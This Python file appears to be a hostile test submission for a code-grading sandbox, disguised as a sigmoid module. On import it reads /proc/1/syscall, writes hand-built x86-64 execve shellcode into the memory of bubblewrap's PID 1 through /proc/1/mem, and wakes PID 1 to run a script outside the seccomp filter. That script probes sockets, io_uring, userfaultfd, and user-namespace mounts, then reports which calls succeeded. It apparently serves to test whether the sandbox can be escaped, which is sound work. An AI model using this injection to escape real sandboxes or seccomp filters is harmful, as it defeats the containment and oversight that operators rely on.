"""Attack: run code outside the seccomp filter, in the sandbox's PID 1 (bubblewrap's own init).

The submission's process (the runner) is under a seccomp filter and its
supervisor is not dumpable, but the sandbox's PID 1 is bubblewrap's init
(``do_init``: a wait4() loop), which has no seccomp filter at all. Where it
runs under the runner's uid and is dumpable, the runner may write its
memory through /proc/1/mem (that needs the same ptrace access check as a
read, not the ptrace() call the filter denies). This file:

1. reads /proc/1/syscall: the call PID 1 is blocked in and its instruction
   pointer;
2. writes x86-64 code there through /proc/1/mem: execve() of the
   interpreter (``-I -S -c SCRIPT``, no environment);
3. wakes PID 1: a grandchild, orphaned to it, exits; wait4() returns into
   the code.

SCRIPT, now PID 1 of the sandbox and without any seccomp filter, tries what
the filter denies the submission: socket(), io_uring_setup(),
userfaultfd(), unshare(CLONE_NEWUSER | CLONE_NEWNS) then mount() (in a
child), and writes what worked to /tmp/fchostile-init-report (the
sandbox's own tmpfs), which this file prints (``FCH pid1_*`` lines). It
exits by itself after 20 s (the sandbox ends with it). Nothing outside the
sandbox is touched: the code is written into PID 1's private copy of libc's
page. sigmoid is honest.

Expected verdict: /proc/1 cannot be written (PID 1 belongs to another uid
or is not dumpable), no code runs outside the filter; at most the sigmoid
point; the neighbour keeps full marks.
"""
import json
import os
import platform
import struct
import time

import numpy as np

REPORT = "/tmp/fchostile-init-report"
SCRIPT = r'''
import ctypes, json, os, socket, time
r = {"execve": "ok", "pid": str(os.getpid())}
for line in open("/proc/self/status"):
    if line.startswith(("Seccomp:", "NoNewPrivs:")):
        r[line.split(":")[0].lower()] = line.split()[1]
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close()
    r["socket"] = "ok"
except OSError as e:
    r["socket"] = f"failed {e.errno}"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
params = ctypes.create_string_buffer(120)
n = libc.syscall(ctypes.c_long(425), ctypes.c_long(4), params)  # io_uring_setup
r["io_uring_setup"] = "ok" if n >= 0 else f"failed {ctypes.get_errno()}"
n = libc.syscall(ctypes.c_long(323), ctypes.c_long(1))  # userfaultfd(UFFD_USER_MODE_ONLY)
r["userfaultfd"] = "ok" if n >= 0 else f"failed {ctypes.get_errno()}"
pid = os.fork()
if pid == 0:
    code = 1
    try:
        if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
            code = 2
        elif libc.mount(b"fchostile", b"/tmp", b"tmpfs", 0, None) != 0:
            code = 3
        else:
            code = 0
    finally:
        os._exit(code)
_, status = os.waitpid(pid, 0)
r["unshare_mount"] = {0: "ok", 2: "failed unshare", 3: "failed mount"}.get(os.waitstatus_to_exitcode(status), "failed")
with open(REPORT + ".tmp", "w") as fh:
    json.dump(r, fh)
os.rename(REPORT + ".tmp", REPORT)
time.sleep(20.0)
os._exit(0)
'''.replace("REPORT", repr(REPORT))


def _say(key, value):
    print(f"FCH {key}={value}", flush=True)


def _payload(pc: int, argv: list[bytes]) -> bytes:
    """execve(argv[0], argv, NULL) at address ``pc``, then exit_group(the error); the data after it."""
    code_len = 32
    ptrs_at = (pc + code_len + 7) & ~7
    strs_at = ptrs_at + 8 * (len(argv) + 1)
    addrs, blob = [], b""
    for a in argv:
        addrs.append(strs_at + len(blob))
        blob += a + b"\0"
    code = (b"\x48\x8d\x3d" + struct.pack("<i", addrs[0] - (pc + 7))      # lea rdi, [rip + path]
            + b"\x48\x8d\x35" + struct.pack("<i", ptrs_at - (pc + 14))    # lea rsi, [rip + argv]
            + b"\x31\xd2"                                                  # xor edx, edx (envp NULL)
            + b"\xb8\x3b\x00\x00\x00" + b"\x0f\x05"                        # execve
            + b"\x89\xc7" + b"\xb8\xe7\x00\x00\x00" + b"\x0f\x05")         # exit_group(error)
    assert len(code) == code_len
    pad = b"\0" * (ptrs_at - (pc + code_len))
    return code + pad + b"".join(struct.pack("<Q", a) for a in addrs) + b"\0" * 8 + blob


def _inject():
    if platform.machine() != "x86_64":
        _say("pid1_inject", f"skipped on {platform.machine()}")
        return
    try:
        with open("/proc/1/syscall") as fh:
            sc = fh.read().split()
    except OSError as e:
        _say("pid1_syscall", f"failed {e.errno}")
        return
    if len(sc) < 9:
        _say("pid1_syscall", f"failed {' '.join(sc)[:40]}")
        return
    _say("pid1_syscall", f"ok {sc[0]}")
    pc = int(sc[-1], 16)
    exe = os.readlink("/proc/self/exe").encode()
    payload = _payload(pc, [exe, b"-I", b"-S", b"-c", SCRIPT.encode()])
    try:
        fd = os.open("/proc/1/mem", os.O_RDWR)
    except OSError as e:
        _say("pid1_mem_write", f"failed {e.errno}")
        return
    try:
        n = os.pwrite(fd, payload, pc)
        _say("pid1_mem_write", f"ok {n} bytes")
    except OSError as e:
        _say("pid1_mem_write", f"failed {e.errno}")
        return
    finally:
        os.close(fd)
    pid = os.fork()  # a grandchild orphaned to PID 1: its exit returns PID 1 from wait4() into the code
    if pid == 0:
        try:
            if os.fork() == 0:
                time.sleep(0.1)
                os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    end = time.monotonic() + 5.0
    while time.monotonic() < end and not os.path.exists(REPORT):
        time.sleep(0.02)
    try:
        with open(REPORT) as fh:
            rep = json.load(fh)
    except (OSError, ValueError) as e:
        _say("pid1_report", f"failed {type(e).__name__}")
        return
    for k, v in sorted(rep.items()):
        _say(f"pid1_{k}", v)


_inject()


def sigmoid(x):
    x = np.asarray(x, dtype=np.float64)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
